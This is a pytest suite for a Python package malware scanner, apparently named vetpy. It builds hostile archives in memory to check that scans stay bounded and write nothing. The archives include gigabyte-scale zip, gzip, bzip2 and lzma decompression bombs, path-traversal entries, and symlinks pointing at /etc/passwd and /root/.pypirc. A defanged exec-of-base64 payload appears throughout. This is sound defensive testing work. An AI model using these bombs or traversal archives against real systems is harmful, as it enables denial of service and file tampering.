"""Hostile inputs through the whole Scanner: every one ends in a verdict or a one-line error, within time
and memory bounds, and nothing is written anywhere.

The archives are built here, in memory, and defanged: payloads only *look* dangerous to a static reader
(``exec(b64decode(...))`` of ``print(1)``) and are never run. Archive-reader unit tests (formats, each
limit, path normalisation) live in ``test_archive.py``; this file checks what a user of ``Scanner`` gets
for the same tricks and for hostile Python sources, end to end (``Scanner.scan`` of a file path).

Bounds are generous (a slow CI machine must pass) but far below what a failure would cost: a bomb that
was inflated would take a GiB and seconds, a recursive visitor would crash the process.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import json
import os
import random
import resource
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from conftest import build_archive
from test_canary import canary_files
from vetpy.acquire.archive import open_archive
from vetpy.acquire.interface import Limits
from vetpy.cli.main import main
from vetpy.features.extract import extract_features
from vetpy.model.rules import RuleScorer
from vetpy.result import ScanResult, Verdict
from vetpy.scan import Scanner

MiB = 1 << 20
GiB = 1 << 30

#: Looks like a decode-and-run payload to a static reader; running it would only print 1.
PAYLOAD = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
SETUP = PAYLOAD + b"from setuptools import setup\nsetup(name='evil', version='1.0')\n"
PKG_INFO = b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
BENIGN_SETUP = b"from setuptools import setup\nsetup(name='evil', version='1.0')\n"

#: The rule scorer: deterministic, so "flagged" assertions do not depend on which model is bundled.
SCANNER = Scanner(scorer=RuleScorer())


# -- bounds and "nothing written" ----------------------------------------------------------------------


class Sandbox:
    """Inputs go to ``tmp_path/in``; cwd and every temp-dir setting point at empty folders we watch."""

    def __init__(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self.root = tmp_path
        self.inputs = tmp_path / "in"
        self.cwd = tmp_path / "cwd"
        self.tmp = tmp_path / "tmp"
        for folder in (self.inputs, self.cwd, self.tmp):
            folder.mkdir()
        monkeypatch.chdir(self.cwd)
        for var in ("TMPDIR", "TEMP", "TMP"):
            monkeypatch.setenv(var, str(self.tmp))
        monkeypatch.setattr(tempfile, "tempdir", str(self.tmp))

    def write(self, name: str, data: bytes) -> Path:
        path = self.inputs / name
        path.write_bytes(data)
        return path

    def tree(self) -> dict[str, tuple[int, int]]:
        return {
            str(p.relative_to(self.root)): (p.lstat().st_size, p.lstat().st_mtime_ns)
            for p in self.root.rglob("*")
        }

    def check_clean(self, before: dict[str, tuple[int, int]]) -> None:
        assert os.listdir(self.cwd) == [], "something was written to the working directory"
        assert os.listdir(self.tmp) == [], "something was written to the temp directory"
        assert self.tree() == before, "the inputs or their folder changed"


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    return Sandbox(tmp_path, monkeypatch)


def _maxrss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # kilobytes on Linux


#: Peak Python allocations seen per test (for the report at the end of a verbose run).
PEAKS: dict[str, int] = {}


@contextmanager
def bounded(seconds: float, mib: int, *, trace: bool = True, label: str = "") -> Iterator[None]:
    """Assert the block took at most ``seconds`` and ``mib`` MiB: the tracemalloc peak of Python
    allocations (``trace``), and in any case the growth of the process's peak RSS."""
    rss = _maxrss()
    if trace:
        tracemalloc.start()
    start = time.perf_counter()
    try:
        yield
    finally:
        elapsed = time.perf_counter() - start
        peak = 0
        if trace:
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        growth = _maxrss() - rss
        PEAKS[label or os.environ.get("PYTEST_CURRENT_TEST", "?")] = max(peak, growth)
    assert elapsed < seconds, f"took {elapsed:.1f} s (bound {seconds} s)"
    assert peak < mib * MiB, f"Python allocations peaked at {peak / MiB:.0f} MiB (bound {mib} MiB)"
    assert growth < max(mib, 256) * MiB, f"peak RSS grew by {growth / MiB:.0f} MiB (bound {mib} MiB)"


def well_formed(result: ScanResult) -> None:
    """A verdict with a score, or a one-line error; never an internal error; JSON-serialisable."""
    assert isinstance(result.verdict, Verdict)
    if result.verdict is Verdict.ERROR:
        assert result.error and "\n" not in result.error and len(result.error) <= 500, result.error
    else:
        assert result.error is None and result.score is not None and 0.0 <= result.score <= 1.0
    assert not (result.error or "").startswith("internal error"), result.error
    for reason in result.reasons:
        assert "\n" not in reason.message
    json.dumps(result.to_dict())


def scan(
    sandbox: Sandbox,
    name: str,
    data: bytes,
    *,
    limits: Limits | None = None,
    seconds: float = 10.0,
    mib: int = 128,
    trace: bool = True,
) -> ScanResult:
    """Write ``data`` as input ``name``, scan its path with the whole Scanner, check bounds and writes."""
    path = sandbox.write(name, data)
    scanner = SCANNER if limits is None else Scanner(scorer=RuleScorer(), limits=limits)
    before = sandbox.tree()
    with bounded(seconds, mib, trace=trace):
        results = scanner.scan([str(path)])
    assert len(results) == 1
    result = results[0]
    well_formed(result)
    sandbox.check_clean(before)
    return result


def features_of(path: Path, limits: Limits | None = None) -> dict[str, float]:
    archive = open_archive(path, target=str(path), limits=limits or Limits())
    return dict(extract_features(archive).values)


def evidence_of(path: Path) -> set[tuple[str | None, str]]:
    """(file, feature) of every piece of evidence the feature stage keeps for the archive at ``path``."""
    archive = open_archive(path, target=str(path), limits=Limits())
    return {(e.file, e.feature) for e in extract_features(archive).evidence}


def reasons(result: ScanResult) -> list[str]:
    return [r.feature for r in result.reasons]


# -- builders ----------------------------------------------------------------------------------------


def tar_of(entries: list[tuple[tarfile.TarInfo, bytes | None]], compress: str = "gz") -> bytes:
    """A tar (``compress``: "gz", "xz", "" for none) of hand-made entries, links and devices included."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compress}", format=tarfile.GNU_FORMAT) as tar:
        for info, data in entries:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def tinfo(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = kind, linkname, 0o644, 1_700_000_000
    return info


def deflate_zeros(mib: int, *, wbits: int, head: bytes = b"", tail: bytes = b"") -> bytes:
    """``head`` + ``mib`` MiB of zeros + ``tail``, deflated in milliseconds.

    One MiB of zeros is compressed once after a full flush; that self-contained segment is repeated.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    segment = compressor.compress(bytes(MiB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return start + segment * mib + compressor.compress(tail) + compressor.flush()


def tar_block(info: tarfile.TarInfo, data: bytes) -> bytes:
    info.size = len(data)
    return info.tobuf(tarfile.GNU_FORMAT) + data + bytes(-len(data) % 512)


def crc_with_zeros(crc: int, mib: int) -> int:
    zeros = bytes(MiB)
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    return crc


def gzip_tar_bomb(zero_mib: int, before: dict[str, bytes], after: dict[str, bytes]) -> bytes:
    """A valid tar.gz (right CRC and size): ``before``, ``zero_mib`` MiB of zeros, then ``after``."""
    head = b"".join(tar_block(tinfo(n), d) for n, d in before.items())
    bomb = tinfo("evil-1.0/data/zeros.bin")
    bomb.size = zero_mib * MiB
    head += bomb.tobuf(tarfile.GNU_FORMAT)
    tail = b"".join(tar_block(tinfo(n), d) for n, d in after.items()) + bytes(1024)
    crc = zlib.crc32(tail, crc_with_zeros(zlib.crc32(head), zero_mib))
    size = len(head) + zero_mib * MiB + len(tail)
    header = b"\x1f\x8b\x08\x00" + struct.pack("<I", 0) + b"\x02\x03"
    return header + deflate_zeros(zero_mib, wbits=-15, head=head, tail=tail) + struct.pack("<II", crc, size)


def zip_of(entries: Iterator[tuple[str, bytes, int, int, int, int]]) -> bytes:
    """A zip written by hand: (name, stored bytes, crc, uncompressed size, method, unix mode) per entry.

    Zip64 end records are added past 65,535 entries. Nothing is checked: sizes and modes say what the
    test wants them to say.
    """
    local = bytearray()
    central = bytearray()
    count = 0
    for name, data, crc, size, method, mode in entries:
        raw = name.encode("utf-8")
        offset = len(local)
        local += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc, len(data), size, len(raw), 0
        )
        local += raw + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x031E, 20, 0x800, method, 0, 0x21, crc, len(data), size, len(raw), 0, 0, 0, 0,
            (mode << 16) & 0xFFFFFFFF, offset,
        )  # fmt: skip
        central += raw
        count += 1
    out = local + central
    shown = count
    if count > 0xFFFF:
        z64 = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(central), len(local)
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
        shown = 0xFFFF
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, shown, shown, len(central), len(local), 0)
    return bytes(out)


def stored(name: str, data: bytes, mode: int = stat.S_IFREG | 0o644) -> tuple[str, bytes, int, int, int, int]:
    return name, data, zlib.crc32(data), len(data), 0, mode


def zip_bomb(zero_mib: int, before: dict[str, bytes], after: dict[str, bytes]) -> bytes:
    """A valid zip whose member ``evil-1.0/data/zeros.bin`` inflates to ``zero_mib`` MiB."""
    bomb = ("evil-1.0/data/zeros.bin", deflate_zeros(zero_mib, wbits=-15), crc_with_zeros(0, zero_mib),
            zero_mib * MiB, zipfile.ZIP_DEFLATED, stat.S_IFREG | 0o644)  # fmt: skip
    entries = [stored(n, d) for n, d in before.items()] + [bomb] + [stored(n, d) for n, d in after.items()]
    return zip_of(iter(entries))


def tar_of_many(count: int, after: dict[str, bytes]) -> bytes:
    """A tar.gz of ``count`` empty members, headers stamped from one template, then ``after``."""
    template = bytearray(tinfo("evil-1.0/m000000.txt").tobuf(tarfile.USTAR_FORMAT))
    template[148:156] = b" " * 8
    base = sum(template) - sum(b"000000")
    blocks = []
    for i in range(count):
        digits = b"%06d" % i
        header = template.copy()
        header[10:16] = digits
        header[148:156] = b"%06o\x00 " % (base + sum(digits))
        blocks.append(bytes(header))
    blocks += [tar_block(tinfo(n), d) for n, d in after.items()]
    return gzip.compress(b"".join(blocks) + bytes(1024), compresslevel=1, mtime=0)


def zip_of_many(count: int, after: dict[str, bytes]) -> bytes:
    many = (stored(f"evil-1.0/m{i:06d}.txt", b"") for i in range(count))
    rest = (stored(n, d) for n, d in after.items())
    return zip_of(iter([*many, *rest]))


def nested(levels: int) -> bytes:
    """The payload package wrapped ``levels`` times: zip in tar in tar.gz in tar.bz2 in tar.xz in zip..."""
    data = build_archive({"evil-1.0/setup.py": SETUP, "evil-1.0/PKG-INFO": PKG_INFO}, "tar.gz")
    formats = ("zip", "tar", "tar.gz", "tar.bz2", "tar.xz")
    for level in range(levels):
        fmt = formats[level % len(formats)]
        data = build_archive({f"layer{level}/inner.{fmt}": data}, fmt)
    return data


def sdist(files: dict[str, bytes], fmt: str = "tar.gz") -> bytes:
    """An sdist of ``files`` under ``evil-1.0/`` with a PKG-INFO."""
    return build_archive(
        {"evil-1.0/PKG-INFO": PKG_INFO} | {f"evil-1.0/{p}": d for p, d in files.items()}, fmt
    )


# -- the builders make what they claim -----------------------------------------------------------------


def test_builders_make_what_they_claim() -> None:
    small = gzip_tar_bomb(3, {"evil-1.0/setup.py": SETUP}, {"evil-1.0/after.py": b"x = 1\n"})
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(small))) as tar:  # gzip checks CRC and size
        sizes = {m.name: m.size for m in tar.getmembers()}
    assert sizes == {
        "evil-1.0/setup.py": len(SETUP),
        "evil-1.0/data/zeros.bin": 3 * MiB,
        "evil-1.0/after.py": 6,
    }
    with zipfile.ZipFile(io.BytesIO(zip_bomb(3, {"a.py": b"a"}, {"b.py": b"b"}))) as archive:
        assert archive.testzip() is None  # every CRC checks out
        assert [i.file_size for i in archive.infolist()] == [1, 3 * MiB, 1]
    with zipfile.ZipFile(io.BytesIO(zip_of_many(70_000, {"z.py": b"z"}))) as archive:
        names = archive.namelist()
        assert len(names) == 70_001 and names[-1] == "z.py" and archive.read("z.py") == b"z"
    with tarfile.open(fileobj=io.BytesIO(tar_of_many(1000, {"z.py": b"z"}))) as tar:
        members = tar.getmembers()
        assert len(members) == 1001 and members[999].name == "evil-1.0/m000999.txt"
    assert len(zip_bomb(1024, {}, {})) < 2 * MiB and len(gzip_tar_bomb(1024, {}, {})) < 2 * MiB


# -- path tricks, links, devices -------------------------------------------------------------------------


def test_tar_path_tricks_links_and_devices_hide_nothing(sandbox: Sandbox) -> None:
    dev = tinfo("evil-1.0/null", tarfile.CHRTYPE)
    dev.devmajor, dev.devminor = 1, 3
    disk = tinfo("evil-1.0/sda", tarfile.BLKTYPE)
    disk.devmajor, disk.devminor = 8, 0
    data = tar_of(
        [
            (tinfo("evil-1.0/PKG-INFO"), PKG_INFO),
            (tinfo("../../evil-1.0/setup.py"), SETUP),  # traversal: still read, as evil-1.0/setup.py
            (tinfo("/etc/vetpy-abs.py"), b"x = 1\n"),
            (tinfo("evil-1.0/link", tarfile.SYMTYPE, "/etc"), None),
            (tinfo("evil-1.0/link/through.py", tarfile.REGTYPE), b"y = 2\n"),
            (tinfo("evil-1.0/hard", tarfile.LNKTYPE, "/etc/passwd"), None),
            (tinfo("evil-1.0/fifo", tarfile.FIFOTYPE), None),
            (dev, None),
            (disk, None),
            (tinfo("evil-1.0/setup.cfg", tarfile.SYMTYPE, "../../../../root/.pypirc"), None),
        ]
    )
    result = scan(sandbox, "evil-1.0.tar.gz", data)
    assert result.verdict is Verdict.MALICIOUS
    assert any(r.file == "evil-1.0/setup.py" for r in result.reasons), result.reasons
    notes = " | ".join(result.notes)
    for expected in ("path traversal", "absolute path", "symlink evil-1.0/link points outside the archive",
                     "hardlink evil-1.0/hard points outside", "skipped fifo", "skipped device"):  # fmt: skip
        assert expected in notes, notes
    assert result.reasons[0].feature == "policy.link_escape"


def test_zip_path_tricks_and_special_modes_hide_nothing(sandbox: Sandbox) -> None:
    data = zip_of(
        iter(
            [
                stored("evil-1.0/PKG-INFO", PKG_INFO),
                stored("evil-1.0\\..\\..\\evil-1.0\\setup.py", SETUP),  # backslashes and traversal
                stored("/abs/vetpy-abs.py", b"x = 1\n"),
                stored("C:\\vetpy\\drive.py", b"x = 1\n"),
                stored("evil-1.0/link", b"/etc/passwd", stat.S_IFLNK | 0o777),
                stored("evil-1.0/fifo", b"", stat.S_IFIFO | 0o644),
            ]
        )
    )
    result = scan(sandbox, "evil-1.0.zip", data)
    assert result.verdict is Verdict.MALICIOUS
    assert any(r.file == "evil-1.0/setup.py" for r in result.reasons), result.reasons
    notes = " | ".join(result.notes)
    for expected in ("path traversal", "absolute path", "has symlink mode bits", "has fifo mode bits"):
        assert expected in notes, notes


def test_folder_with_fifo_and_links_is_scanned_without_blocking(sandbox: Sandbox) -> None:
    folder = sandbox.inputs / "evil-1.0"
    folder.mkdir()
    (folder / "setup.py").write_bytes(SETUP)
    (folder / "PKG-INFO").write_bytes(PKG_INFO)
    os.mkfifo(folder / "fifo.py")  # reading it would block forever
    (folder / "etc").symlink_to("/etc")
    (folder / "dangling.py").symlink_to(sandbox.root / "nowhere")
    before = sandbox.tree()
    with bounded(10, 64):
        [result] = SCANNER.scan([str(folder)])
    well_formed(result)
    sandbox.check_clean(before)
    assert result.verdict is Verdict.MALICIOUS
    notes = " | ".join(result.notes)
    assert "skipped special file fifo.py" in notes and "skipped symlink etc -> /etc" in notes


# -- bombs and the limit policy --------------------------------------------------------------------------


def test_gzip_bomb_with_payload_before_it_is_flagged(sandbox: Sandbox) -> None:
    data = gzip_tar_bomb(1024, {"evil-1.0/PKG-INFO": PKG_INFO, "evil-1.0/setup.py": SETUP}, {})
    assert len(data) < 2 * MiB  # a 1 GiB member in about 1 MiB
    result = scan(sandbox, "evil-1.0.tar.gz", data, seconds=5, mib=64)
    assert result.verdict is Verdict.MALICIOUS
    assert reasons(result)[0] == "archive.limit_hit" and "ratio: " in result.reasons[0].message
    assert any("incomplete scan" in n for n in result.notes)


def test_gzip_bomb_with_payload_after_it_is_never_benign(sandbox: Sandbox) -> None:
    """The attack: padding first, payload after it. Reading stops at the bomb, so the payload is unread;
    the part read looks harmless, and the result must say "incomplete", not "benign"."""
    data = gzip_tar_bomb(1024, {"evil-1.0/PKG-INFO": PKG_INFO}, {"evil-1.0/setup.py": SETUP})
    result = scan(sandbox, "evil-1.0.tar.gz", data, seconds=5, mib=64)
    assert result.verdict is Verdict.ERROR and result.score is not None and result.score < 0.5
    assert (result.error or "").startswith(
        "incomplete scan: reading stopped at a limit (ratio: 1.0 GiB from "
    )
    assert reasons(result)[0] == "archive.limit_hit"
    assert features_of(sandbox.inputs / "evil-1.0.tar.gz")["archive.limit_hit"] == 1.0


def test_zip_bomb_member_is_cut_at_the_member_limit_and_the_rest_read(sandbox: Sandbox) -> None:
    """A zip member's declared size is not trusted: it is inflated in chunks up to the per-member limit
    (16 MiB, not 1 GiB), skipped, and the members after it are still read."""
    data = zip_bomb(1024, {"evil-1.0/PKG-INFO": PKG_INFO}, {"evil-1.0/setup.py": SETUP})
    assert len(data) < 2 * MiB
    result = scan(sandbox, "evil-1.0.zip", data, seconds=5, mib=96)
    assert result.verdict is Verdict.MALICIOUS
    assert any("skipped large member evil-1.0/data/zeros.bin" in n for n in result.notes)


def test_zip_of_many_bomblets_stops_at_the_ratio_and_is_never_benign(sandbox: Sandbox) -> None:
    """Each member just under the member limit: the ratio across members stops it (at 250x)."""
    bomblet = deflate_zeros(15, wbits=-15)
    crc = crc_with_zeros(0, 15)
    entries = [stored("evil-1.0/PKG-INFO", PKG_INFO)]
    entries += [(f"evil-1.0/z{i}.bin", bomblet, crc, 15 * MiB, 8, stat.S_IFREG | 0o644) for i in range(64)]
    entries += [stored("evil-1.0/setup.py", SETUP)]
    data = zip_of(iter(entries))
    assert len(data) < MiB  # 960 MiB of members
    # members under the member limit are kept: memory is bounded by the ratio (250 x 1 MiB) and the
    # total limit (256 MiB), not by the 960 MiB declared
    result = scan(sandbox, "evil-1.0.zip", data, seconds=5, mib=300)
    assert result.verdict is Verdict.ERROR and result.score is not None
    assert (result.error or "").startswith("incomplete scan: reading stopped at a limit (ratio: ")
    assert reasons(result)[0] == "archive.limit_hit"


def test_gzip_bomb_of_nothing_but_zeros_is_a_one_line_error(sandbox: Sandbox) -> None:
    result = scan(sandbox, "zeros-1.0.tar.gz", gzip_tar_bomb(1024, {}, {}), seconds=5, mib=64)
    assert result.verdict is Verdict.ERROR and result.score is None
    assert (result.error or "").startswith("zeros-1.0.tar.gz: ratio: ")


def test_xz_and_bzip2_bombs(sandbox: Sandbox) -> None:
    zeros = {"evil-1.0/data/zeros.bin": bytes(64 * MiB)}
    for fmt in ("tar.xz", "tar.bz2"):
        data = sdist({"setup.py": SETUP} | zeros, fmt)
        assert len(data) < 64 * 1024
        result = scan(sandbox, f"evil-1.0.{fmt}", data, seconds=10, mib=64)
        assert result.verdict is Verdict.MALICIOUS and reasons(result)[0] == "archive.limit_hit"


def _header_bomb(kind: bytes, before: dict[str, bytes]) -> bytes:
    """A tar.gz whose pax / GNU long-name header carries 512 MiB of data (tarfile reads it in one piece)."""
    head = b"".join(tar_block(tinfo(n), d) for n, d in before.items())
    header = tinfo("././@PaxHeader" if kind == tarfile.XHDTYPE else "././@LongLink", kind)
    header.size = 512 * MiB
    head += header.tobuf(tarfile.USTAR_FORMAT) + b"a" * 512
    return deflate_zeros(511, wbits=31, head=head)


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME], ids=["pax", "longname"])
def test_tar_header_bombs_stop_at_the_header_cap(sandbox: Sandbox, kind: bytes) -> None:
    data = _header_bomb(kind, {"evil-1.0/PKG-INFO": PKG_INFO, "evil-1.0/setup.py": SETUP})
    assert len(data) < MiB
    result = scan(sandbox, "evil-1.0.tar.gz", data, seconds=5, mib=64)
    assert result.verdict is Verdict.MALICIOUS
    assert (
        reasons(result)[0] == "archive.limit_hit" and "header: more than 1.0 MiB" in result.reasons[0].message
    )
    alone = scan(sandbox, "only-1.0.tar.gz", _header_bomb(kind, {}), seconds=5, mib=64)
    assert alone.verdict is Verdict.ERROR and (alone.error or "").startswith("only-1.0.tar.gz: header: ")


def test_multistream_bzip2_tar_bomb(sandbox: Sandbox) -> None:
    """bzip2 packs 64 MiB of zeros into a few hundred bytes; a reader that hands a whole input block to the
    decompressor without an output bound asks for gigabytes at once."""
    header = tinfo("evil-1.0/data/zeros.bin")
    header.size = 1024 * MiB
    before = tar_block(tinfo("evil-1.0/PKG-INFO"), PKG_INFO) + tar_block(tinfo("evil-1.0/setup.py"), SETUP)
    data = bz2.compress(before + header.tobuf(tarfile.GNU_FORMAT)) + _bz2_zeros() * 16
    assert len(data) < 16 * 1024
    result = scan(sandbox, "evil-1.0.tar.bz2", data, seconds=5, mib=48)
    assert result.verdict is Verdict.MALICIOUS and reasons(result)[0] == "archive.limit_hit"


@functools.cache
def _bz2_zeros() -> bytes:
    return bz2.compress(bytes(64 * MiB), 9)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=["bzip2", "lzma"])
def test_bzip2_and_lzma_zip_members_are_read_bounded(sandbox: Sandbox, method: int) -> None:
    """zipfile inflates bzip2/lzma members with no output bound; vetpy reads them itself, bounded, so
    64 MiB of zeros costs at most the member limit, and the code after it is still read."""
    if method == zipfile.ZIP_BZIP2:
        bomb = ("evil-1.0/data/zeros.bin", _bz2_zeros(), crc_with_zeros(0, 64), 64 * MiB, method, 0o100644)
    else:
        bomb = _lzma_zeros_entry()
    packed = [stored("evil-1.0/PKG-INFO", PKG_INFO), bomb]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("evil-1.0/setup.py", SETUP)  # the payload, compressed the same way
    with zipfile.ZipFile(buffer) as archive:
        info = archive.getinfo("evil-1.0/setup.py")
        raw = buffer.getvalue()[info.header_offset + 30 + len(info.filename) :][: info.compress_size]
    packed.append(("evil-1.0/setup.py", raw, info.CRC, info.file_size, method, 0o100644))
    data = zip_of(iter(packed))
    result = scan(sandbox, "evil-1.0.zip", data, seconds=10, mib=48)  # ratio: stops after the first MiB
    assert result.verdict is Verdict.ERROR and (result.error or "").startswith("incomplete scan")
    assert "(ratio: " in (result.error or "")
    unlimited = Limits(max_ratio=1e9)  # then the member limit cuts it, and the payload after it is read
    result = scan(sandbox, "evil-1-1.0.zip", data, limits=unlimited, seconds=10, mib=48)
    assert result.verdict is Verdict.MALICIOUS
    assert any("skipped large member evil-1.0/data/zeros.bin" in n for n in result.notes), result.notes
    assert any(r.file == "evil-1.0/setup.py" for r in result.reasons)


@functools.cache
def _lzma_zeros_entry() -> tuple[str, bytes, int, int, int, int]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("evil-1.0/data/zeros.bin", bytes(64 * MiB))
        info = archive.getinfo("evil-1.0/data/zeros.bin")
    raw = buffer.getvalue()[info.header_offset + 30 + len(info.filename) :][: info.compress_size]
    return info.filename, raw, info.CRC, info.file_size, zipfile.ZIP_LZMA, 0o100644


# -- huge member counts ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["tar.gz", "zip"])
def test_200k_members_stop_at_the_member_limit(sandbox: Sandbox, fmt: str) -> None:
    payload = {"evil-1.0/PKG-INFO": PKG_INFO, "evil-1.0/setup.py": SETUP}  # hidden after the padding
    data = tar_of_many(199_998, payload) if fmt == "tar.gz" else zip_of_many(199_998, payload)
    # tracemalloc would triple the time of 50,000 small reads: the RSS growth bounds memory here
    result = scan(sandbox, f"evil-1.0.{fmt}", data, seconds=30, mib=512, trace=False)
    assert result.verdict is Verdict.ERROR and result.score is not None
    assert result.error == (
        "incomplete scan: reading stopped at a limit (members: more than 50000); the part read scored "
        f"{result.score:.3f} (threshold 0.5); raise the limit to scan the rest"
    )


# -- nesting, bad files, lying names ---------------------------------------------------------------------


def test_archives_nested_a_dozen_levels(sandbox: Sandbox) -> None:
    result = scan(sandbox, "nested-1.0.zip", nested(12))
    assert result.verdict in (Verdict.BENIGN, Verdict.MALICIOUS)
    assert features_of(sandbox.inputs / "nested-1.0.zip")["archive.nested_archives"] == 1.0


def _bad_files() -> Iterator[tuple[str, bytes]]:
    rng = random.Random(5)
    good = sdist({"setup.py": SETUP, **{f"m{i}.py": rng.randbytes(400) for i in range(10)}})
    good_zip = sdist({"setup.py": SETUP}, "zip")
    yield "empty.tar.gz", b""
    yield "empty.zip", b""
    yield "random.tar.gz", rng.randbytes(100_000)
    yield "random.whl", rng.randbytes(4096)
    yield "gzip-magic-then-junk.tar.gz", b"\x1f\x8b\x08\x00" + rng.randbytes(5000)
    yield "zip-magic-then-junk.zip", b"PK\x03\x04" + rng.randbytes(5000)
    yield "xz-magic-then-junk.tar.xz", b"\xfd7zXZ\x00" + rng.randbytes(5000)
    yield "truncated-half.tar.gz", good[: len(good) // 2]
    yield "truncated-header.tar.gz", good[:20]
    yield "truncated-eocd.zip", good_zip[:-10]
    yield "gzip-of-text.tar.gz", gzip.compress(b"not a tar\n" * 1000)
    yield "text.tar.gz", b"just some text, no archive here\n" * 100


@pytest.mark.parametrize("name", [name for name, _ in _bad_files()])
def test_bad_files_are_one_line_errors(sandbox: Sandbox, name: str) -> None:
    data = dict(_bad_files())[name]
    result = scan(sandbox, name, data, seconds=5, mib=64)
    assert result.verdict is Verdict.ERROR and result.score is None
    assert (result.error or "").startswith(f"{name}: "), result.error


def test_zip_named_tar_gz_is_read_as_zip(sandbox: Sandbox) -> None:
    result = scan(sandbox, "evil-1.0.tar.gz", sdist({"setup.py": SETUP}, "zip"))
    assert result.verdict is Verdict.MALICIOUS and result.name == "evil"


# -- hostile Python sources ------------------------------------------------------------------------------


def _deep_defs(depth: int) -> bytes:
    lines = [" " * i + f"def f{i}():" for i in range(depth)]
    return (
        "\n".join(lines) + "\n" + " " * depth + "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    ).encode()


#: Source encodings that decode to a lone surrogate, and how each writes U+D800 (Python refuses to compile
#: the result, but a reader of the text must not fail on it).
LONE_SURROGATES = {"unicode_escape": b"\\ud800", "raw_unicode_escape": b"\\ud800", "utf-7": b"+2AA-"}


def _lone_surrogate(codec: str, surrogate: bytes) -> bytes:
    return b"# -*- coding: " + codec.encode() + b" -*-\nx = '" + surrogate + b"'\n" + PAYLOAD


def _sources() -> Iterator[tuple[str, bytes]]:
    rng = random.Random(7)
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"
    yield "one_line_10mb", b"x = '" + b"A" * (10 * MiB) + b"'\n" + PAYLOAD
    yield (
        "one_line_10mb_random",
        b"x = '" + "".join(rng.choices(letters, k=10 * MiB)).encode() + b"'\n" + PAYLOAD,
    )
    yield "one_line_10mb_no_newline", b"#" + b"\\x41(" * (2 * MiB)
    yield "nul_bytes", PAYLOAD.replace(b"exec", b"ex\x00ec") + b"\x00" * 1000 + PAYLOAD
    yield "binary_junk", rng.randbytes(MiB)
    yield "latin1_cookie", "# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n".encode("latin-1") + PAYLOAD
    yield "latin1_undeclared", "name = 'caf\xe9'\n".encode("latin-1") + PAYLOAD
    yield "utf16_bom", b"\xff\xfe" + PAYLOAD.decode().encode("utf-16-le")
    yield "utf16_be_bom", b"\xfe\xff" + PAYLOAD.decode().encode("utf-16-be")
    yield "utf8_bom", b"\xef\xbb\xbf" + PAYLOAD
    yield "utf8_bom_and_latin1_cookie", b"\xef\xbb\xbf# -*- coding: latin-1 -*-\n" + PAYLOAD
    yield "rot13_cookie", b"# -*- coding: rot13 -*-\n" + PAYLOAD
    yield "unknown_codec_cookie", b"# -*- coding: vetpy-no-such-codec -*-\n" + PAYLOAD
    yield "cookie_on_line_3", b"\n\n# coding: utf-16\n" + PAYLOAD
    yield "python2", b"import os\nprint 'hi'\nexec 'import os'\nos.system('echo hi')\n" + PAYLOAD
    yield "sum_200k_terms", b"x = " + b"1+" * 200_000 + b"1\n" + PAYLOAD
    yield "sum_2000_terms_parses", b"x = " + b"1+" * 2000 + b"1\n" + PAYLOAD
    yield "parens_100k", b"x = " + b"(" * 100_000 + b"1" + b")" * 100_000 + b"\n" + PAYLOAD
    yield "lists_100k", b"x = " + b"[" * 100_000 + b"]" * 100_000 + b"\n" + PAYLOAD
    yield "dicts_100k_unclosed", b"x = " + b"{" * 100_000 + b"\n" + PAYLOAD
    yield "unary_100k", b"x = " + b"-" * 100_000 + b"1\n" + PAYLOAD
    yield "not_100k", b"x = " + b"not " * 100_000 + b"1\n" + PAYLOAD
    yield "lambdas_100k", b"x = " + b"lambda: " * 100_000 + b"1\n" + PAYLOAD
    yield "attributes_100k", b"x = a" + b".b" * 100_000 + b"\n" + PAYLOAD
    yield "calls_100k", b"x = f" + b"()" * 100_000 + b"\n" + PAYLOAD
    yield "ternaries_50k", b"x = " + b"a if b else " * 50_000 + b"1\n" + PAYLOAD
    yield "defs_99_deep_parses", _deep_defs(99)
    yield "defs_5000_deep", _deep_defs(5000)
    yield "strings_100k", b"x = " + b"'ab' " * 100_000 + b"\n" + PAYLOAD
    yield "lines_500k", b"\n" * 500_000 + PAYLOAD
    yield "fstring_nested", b"x = f'{" * 200 + b"1" + b"}'" * 200 + b"\n" + PAYLOAD
